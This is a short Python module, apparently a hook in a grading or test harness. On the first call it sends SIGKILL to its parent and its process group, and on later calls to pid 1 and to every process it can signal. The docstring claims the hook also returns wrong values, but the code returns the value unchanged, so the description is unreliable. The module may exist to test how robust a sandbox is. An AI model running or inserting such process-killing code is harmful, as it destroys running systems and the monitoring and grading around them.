"""The graded calls SIGKILL their parent and their process group (first call), then pid 1
and every process they may signal (-1), and return the wrong value each time."""
import os as _gq_os
import signal as _gq_sig

_gq_calls = [0]


def _gq_hook(name, value, args):
    _gq_calls[0] += 1
    targets = (_gq_os.getppid(), -_gq_os.getpgrp()) if _gq_calls[0] == 1 else (1, -1)
    for pid in targets:
        try:
            _gq_os.kill(pid, _gq_sig.SIGKILL)
        except OSError:
            pass
    return value
